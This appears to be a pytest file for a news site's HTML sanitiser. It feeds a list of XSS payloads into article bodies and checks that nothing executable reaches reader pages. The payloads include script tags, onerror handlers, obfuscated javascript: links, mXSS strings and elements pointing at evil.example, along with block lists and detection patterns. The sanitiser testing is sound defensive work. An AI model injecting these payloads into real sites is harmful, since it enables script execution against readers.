"""Story bodies keep the markup a newsroom needs and lose everything that could run.

Each payload is saved through ``Article.save`` (which cleans the body with nh3) and then read
back by an anonymous reader on the article page and the print page.
"""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dateline.lib.sanitize import clean_body_html
from dateline.news.models import Article
from tests import factories
from tests.media_helpers import library_picture

XSS_PAYLOADS = {
    "script tag": "<script>alert(1)</script>",
    "script with a remote source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror on our own media": '<img src="/media/x.jpg" onerror="alert(1)">',
    "javascript href": '<a href="javascript:alert(1)">click</a>',
    "mixed-case javascript href": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "entity-encoded javascript href": '<a href="&#106;avascript:alert(1)">click</a>',
    "hex entities and &colon;": '<a href="&#x6A;&#x61;vascript&colon;alert(1)">click</a>',
    "tab inside javascript": '<a href="java\tscript:alert(1)">click</a>',
    "leading space before javascript": '<a href=" javascript:alert(1)">click</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">click</a>',
    "data:text/html link": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'
    ),
    "svg onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "script inside svg": "<svg><script>alert(1)</script></svg>",
    "xlink javascript in svg": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base href": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style element": "<style>body { display: none }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "srcset on img": '<img src="/media/a.jpg" srcset="https://evil.example/x.jpg 1x">',
    "form action": (
        '<form action="https://evil.example/"><input name="q"><button>Go</button></form>'
    ),
    "mXSS through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mXSS through math and style": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "input onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "template content": "<template><img src=x onerror=alert(1)></template>",
    "textarea content": "<textarea><img src=x onerror=alert(1)></textarea>",
    "comment": "<!-- <img src=x onerror=alert(1)> -->",
    "target blank with opener": '<a href="https://example.org/" target="_blank" rel="opener">t</a>',
    "handlers on a library figure": (
        '<figure onclick="alert(1)" class="figure"><img src="/media/a.jpg" data-image-id="7" '
        'onerror="alert(1)"><figcaption onmouseover="alert(1)" style="color:red">Caption '
        '<small onclick="alert(1)" style="x">Credit</small></figcaption></figure>'
    ),
    "handler smuggled in an image id": (
        '<img src="/media/a.jpg" data-image-id="1&quot; onerror=&quot;alert(1)">'
    ),
}

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "object", "embed", "base", "meta", "style", "link", "form", "input",
    "button", "textarea", "svg", "math", "template", "noscript", "details", "video", "source",
}  # fmt: skip
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:")


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser-like tokenizer sees them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def body_of(page: str) -> str:
    match = re.search(r'<div class="article__body">(.*?)</div>', page, re.S)
    assert match, "no article body on the page"
    return match.group(1)


# The page around the story may load the site's own scripts (deferred, from /static/, no
# inline code) and carry the site's own reader forms; the story body may do neither.
OWN_SCRIPT = re.compile(
    r'<script src="/static/[\w./-]+\.js"(?: data-[a-z-]+="[^"<>]*")*(?: defer)?></script>'
)
# Structured data is a data block the browser never runs (tests/test_structured_data.py checks
# that a headline cannot break out of it).
JSON_LD = re.compile(r'<script type="application/ld\+json">[^<]*</script>')
PAGE_FORM_ELEMENTS = {"form", "input", "textarea", "button", "details"}  # + Most read tabs


def executable_parts(markup: str, *, page: bool = False) -> list[str]:
    """What in ``markup`` could run script, load a remote page or restyle the page: the
    telltale strings, then every element and attribute as a tokenizer sees them."""
    problems = []
    if page:
        markup = JSON_LD.sub("", OWN_SCRIPT.sub("", markup))
    lowered = markup.lower()
    for needle in ("<script", "<iframe", "<object", "<embed", "<base", "<meta http-equiv"):
        if needle in lowered:
            problems.append(needle)
    if "javascript:" in lowered:
        problems.append("javascript:")
    if re.search(r"<[a-z][^>]*\s(on[a-z]+|style|srcset)\s*=", markup, re.I):
        problems.append("event handler, style or srcset attribute")
    return problems + executable_markup(markup, page=page)


def executable_markup(markup: str, *, page: bool = False) -> list[str]:
    """Elements and attributes that could run or load something.

    A whole ``page`` may have its own ``<meta>`` and ``<link>`` in the head; a story body
    may have no element outside the newsroom's short list.
    """
    problems = []
    for tag, attributes in Elements(markup).found:
        if tag in FORBIDDEN_ELEMENTS and not (
            page and tag in {"meta", "link", *PAGE_FORM_ELEMENTS}
        ):
            problems.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "srcset", "formaction", "xlink:href"}:
                problems.append(f"{tag} {name}=")
            squeezed = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
            if name in {"href", "src", "action"} and squeezed.startswith(FORBIDDEN_SCHEMES):
                problems.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not value.startswith("/media/"):
                problems.append(f"img from {value}")
    return problems


def reader_pages(client, story: Article) -> dict[str, str]:
    pages = {}
    for name, url in (("article", story.get_absolute_url()), ("print", story.get_print_url())):
        response = client.get(url)
        assert response.status_code == 200
        pages[name] = response.content.decode()
    return pages


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_nothing_executable_reaches_the_article_or_print_page(client, payload):
    story = factories.article(body=f"<p>Before the payload.</p>{payload}<p>After it.</p>")

    stored = Article.objects.get(pk=story.pk).body
    pages = reader_pages(client, story)

    assert executable_parts(stored) == []
    for page in pages.values():
        assert executable_parts(body_of(page)) == []
        assert executable_parts(page, page=True) == []
    assert "Before the payload." in body_of(pages["article"])


@pytest.mark.django_db
def test_the_reader_pages_themselves_pass_the_check_so_it_is_not_vacuous(client):
    story = factories.article()
    page = reader_pages(client, story)["article"]
    assert executable_parts(page, page=True) == []
    assert executable_parts(page.replace("<p>First", '<p onclick="x()">First'), page=True) != []
    assert executable_parts(page.replace("<p>First", "<svg>First"), page=True) != []
    assert executable_parts('<a href="&#106;avascript:alert(1)">x</a>') != []


@pytest.mark.django_db
def test_text_fields_are_escaped_not_interpreted(client):
    payload = '<script>alert(1)</script><img src=x onerror=alert(1)>"'
    story = factories.article(
        headline=f"Headline {payload}",
        lead=f"Lead {payload}",
        picture=library_picture(alt=payload, caption=payload, credit=payload),
    )
    for page in reader_pages(client, story).values():
        assert "<script>alert(1)</script>" not in page
        assert "Headline &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x" in page
        assert "Lead &lt;script&gt;" in page


@pytest.mark.django_db
def test_an_image_from_another_host_loses_its_source_while_our_media_stays(client):
    story = factories.article(
        body=(
            '<p><img src="https://tracker.example/pixel.gif" alt="pixel"></p>'
            '<p><img src="//tracker.example/pixel.gif"></p>'
            '<p><img src="/media/../../etc/passwd"></p>'
            '<figure><img src="/media/articles/2014/03/parliament.jpg" alt="Parliament" '
            'width="640" height="360"><figcaption>The chamber</figcaption></figure>'
        )
    )
    for page in reader_pages(client, story).values():
        assert "tracker.example" not in page
        assert "etc/passwd" not in page
        assert (
            '<figure><img src="/media/articles/2014/03/parliament.jpg" alt="Parliament" '
            'width="640" height="360"><figcaption>The chamber</figcaption></figure>'
        ) in page


@pytest.mark.django_db
def test_every_link_leaves_with_noopener_noreferrer(client):
    story = factories.article(
        body=(
            '<p><a href="https://example.org/report" rel="opener" target="_blank">report</a> '
            '<a href="mailto:desk@example.org">desk</a> <a href="/en/politics/">politics</a></p>'
        )
    )
    body = body_of(reader_pages(client, story)["article"])
    assert body == (
        '<p><a href="https://example.org/report" rel="noopener noreferrer">report</a> '
        '<a href="mailto:desk@example.org" rel="noopener noreferrer">desk</a> '
        '<a href="/en/politics/" rel="noopener noreferrer">politics</a></p>'
    )


SAFE_BODY = (
    "<h2>What the minister said</h2>"
    "<p>He called it <em>historic</em> and <strong>binding</strong>.</p>"
    "<blockquote><p>“We thank our partners,” he wrote.</p></blockquote>"
    "<ul><li>First point</li><li>Second point</li></ul>"
    '<ol start="3"><li>Third point</li></ol>'
    '<p>Full text: <a href="https://example.org/letter" rel="noopener noreferrer">the letter</a>.'
    "</p>"
)


@pytest.mark.django_db
def test_the_markup_a_story_needs_is_kept_exactly(client):
    story = factories.article(body=SAFE_BODY)
    assert Article.objects.get(pk=story.pk).body == SAFE_BODY
    for page in reader_pages(client, story).values():
        assert body_of(page) == SAFE_BODY


def test_saving_a_body_twice_changes_nothing_the_second_time():
    once = clean_body_html("".join(XSS_PAYLOADS.values()) + SAFE_BODY)
    assert clean_body_html(once) == once


# Pieces of markup that, shuffled together, reach the sanitiser's odd corners: unclosed and
# misnested tags, raw-text elements, foreign content, entities and broken attributes.
FRAGMENTS = st.sampled_from(
    [
        "<p>", "</p>", "<a href='javascript:alert(1)'>", "<a href=https://example.org>", "</a>",
        "<script>", "</script>", "<style>", "<img src=x onerror=alert(1)>", "<svg>", "<math>",
        "<mtext>", "<table>", "<mglyph>", "<noscript>", "</noscript>", "<title>", "<textarea>",
        "<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;", "&#106;", "&amp;", "<", ">", "'",
        '"', "=", " ", "\x00", "\n", "<blockquote>", "<em>", "</em>", "<iframe>", "<xmp>",
        "<select>", "<option>", "<template>", "<form>", "<b>", "<li>", "text", "“quote”",
    ]
)  # fmt: skip
MARKUP = st.lists(FRAGMENTS, max_size=30).map("".join)
NO_DEADLINE = settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None
)


@NO_DEADLINE
@given(st.text())
def test_cleaning_arbitrary_text_is_idempotent(text):
    once = clean_body_html(text)
    assert clean_body_html(once) == once


@NO_DEADLINE
@given(MARKUP)
def test_cleaning_arbitrary_markup_is_idempotent(markup):
    once = clean_body_html(markup)
    assert clean_body_html(once) == once


@NO_DEADLINE
@given(st.one_of(st.text(), MARKUP))
def test_cleaned_output_never_contains_a_script_tag(text):
    cleaned = clean_body_html(text)
    assert "<script" not in cleaned.lower()
    assert executable_markup(cleaned) == []  # "javascript:" may remain as harmless text


@pytest.mark.django_db
def test_a_body_written_around_save_is_still_cleaned_on_the_page(client):
    """QuerySet.update() skips Article.save(); the page cleans the body on the way out too."""
    story = factories.article()
    Article.objects.filter(pk=story.pk).update(body="<p>Hi</p><script>alert(1)</script>")

    page = client.get(story.get_absolute_url()).content.decode()

    assert "<p>Hi</p>" in page
    assert "alert(1)" not in page


LIBRARY_FIGURE = (
    '<figure><img src="/media/library/2014/03/tower.jpg" alt="The Maiden Tower" width="800" '
    'height="600" data-image-id="42"><figcaption>The tower at dusk <small>Photo: Leyla Aliyeva'
    "</small></figcaption></figure>"
)


@pytest.mark.django_db
def test_a_picture_from_the_library_keeps_its_caption_credit_and_id(client):
    story = factories.article(body=f"<p>Before.</p>{LIBRARY_FIGURE}")
    assert Article.objects.get(pk=story.pk).body == f"<p>Before.</p>{LIBRARY_FIGURE}"
    for page in reader_pages(client, story).values():
        # Reader pages may serve the picture in other sizes; caption and credit stay as written.
        assert "<figcaption>The tower at dusk <small>Photo: Leyla Aliyeva</small></figcaption>" in (
            body_of(page)
        )


def test_the_editor_s_own_classes_and_hostile_attributes_leave_the_figure():
    dirty = (
        '<figure class="figure" onclick="alert(1)" data-bind="x" id="f1"><img '
        'src="/media/library/tower.jpg" alt="Tower" data-image-id="42" title="" data-file="9" '
        'onerror="alert(1)" style="width:100%" srcset="https://evil.example/x.jpg 2x">'
        '<figcaption class="figure-caption" style="color:red" onmouseover="alert(1)">The tower '
        '<small class="credit" onclick="alert(1)">Photo: Agency</small></figcaption></figure>'
    )
    assert clean_body_html(dirty) == (
        '<figure><img src="/media/library/tower.jpg" alt="Tower" data-image-id="42">'
        "<figcaption>The tower <small>Photo: Agency</small></figcaption></figure>"
    )


FULL_WIDTH_DIGITS = "１２"  # noqa: RUF001 (digits to str.isdigit(), not to a database id)


@pytest.mark.parametrize(
    "value",
    ["", "-1", "4.2", "0x1f", FULL_WIDTH_DIGITS, "42 onerror=alert(1)", "javascript:a", "9" * 19],
)
def test_an_image_id_that_is_not_a_plain_number_is_dropped(value):
    cleaned = clean_body_html(f'<img src="/media/a.jpg" data-image-id="{html.escape(value)}">')
    assert cleaned == '<img src="/media/a.jpg">'


def test_an_image_from_another_host_loses_its_source_inside_a_figure_too():
    cleaned = clean_body_html(
        '<figure><img src="https://tracker.example/p.gif" data-image-id="1"><figcaption>x'
        "</figcaption></figure>"
    )
    assert "tracker.example" not in cleaned
    assert "src=" not in cleaned


def test_an_ordered_list_keeps_a_numbering_style_and_nothing_else():
    assert clean_body_html('<ol type="a" data-type="lower-alpha"><li>x</li></ol>') == (
        '<ol type="a"><li>x</li></ol>'
    )
    assert clean_body_html('<ol type="disc" start="3"><li>x</li></ol>') == (
        '<ol start="3"><li>x</li></ol>'
    )
